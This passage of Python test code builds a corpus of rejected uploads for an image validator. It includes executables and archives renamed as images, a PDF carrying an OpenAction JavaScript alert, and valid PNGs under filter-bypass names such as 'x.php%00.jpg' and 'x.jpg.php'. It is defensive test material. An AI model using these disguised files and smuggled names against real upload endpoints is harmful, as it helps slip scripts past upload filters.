        for index, name in enumerate(names)
    ]


def _executables_and_documents() -> list[Entry]:
    files = {
        "macho.png": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 64,
        "class.jpg": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 64,
        "pyc.tif": b"\xa7\x0d\x0d\x0a" + b"\x00" * 64,
        "dex.bmp": b"dex\n035\x00" + b"\x00" * 64,
        "wasm.png": b"\x00asm\x01\x00\x00\x00",
        "ole.jpg": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
        "rtf.tif": rb"{\rtf1\ansi{\object\objemb}}",
        "postscript.bmp": b"%!PS-Adobe-3.0\n/x { } def\nshowpage\n",
        "sqlite.png": b"SQLite format 3\x00" + b"\x00" * 84,
        "bzip2.jpg": bz2.compress(b"x" * 100),
        "xz.tif": lzma.compress(b"x" * 100),
        "7z.bmp": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24,
        "rar.png": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 24,
        "iso.jpg": b"\x00" * 32769 + b"CD001",
        "pdf-js.png": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
        "msi.tif": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00MSI" + b"\x00" * 50,
        "lnk.bmp": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 68,
        "swf.png": b"FWS\x0a" + b"\x00" * 30,
    }
    return [(name, data, f"{name.split('.')[0]} named .{name.split('.')[1]}") for name, data in files.items()]


def _valid_images_refused() -> list[Entry]:
    """Issue 11: real, decodable images that must still be refused, for their name (a script
    extension, an encoded NUL) or their shape (smaller or more elongated than any cell image)."""
    named = [
        (name, distinct_png(1100 + index), f"valid PNG under the hostile name {name!r}")
        for index, name in enumerate(
            ["x.jpg.php", "x.php%00.jpg", "x.php.jpg", "cell.png.phtml", "cell%00.png", "r.svg.png"]
        )
    ]
    shapes = [
        ("dot.png", image_bytes("PNG", (1, 1), (0, 0, 0)), "1×1 black PNG"),
        ("line.png", image_bytes("PNG", (10000, 1), (0, 0, 0)), "10000×1 PNG"),
        ("column.png", image_bytes("PNG", (1, 10000), (0, 0, 0)), "1×10000 PNG"),
        ("small.jpg", image_bytes("JPEG", (15, 15)), "15×15 JPEG"),
        ("strip.bmp", image_bytes("BMP", (200, 20)), "200×20 BMP (10:1)"),
        ("strip.tif", image_bytes("TIFF", (20, 100)), "20×100 TIFF (5:1)"),
    ]
    return named + shapes


def bad_upload_corpus() -> list[Entry]:
    return (
        _hand_written()
        + _truncations()
        + _png_corruptions()
        + _jpeg_corruptions()
        + _bmp_corruptions()
        + _tiff_corruptions()
        + _foreign_formats()
        + _markup()
        + _polyglots()
        + _pixel_bombs()
        + _archives()
        + _hostile_names()
        + _executables_and_documents()
        + _valid_images_refused()
    )
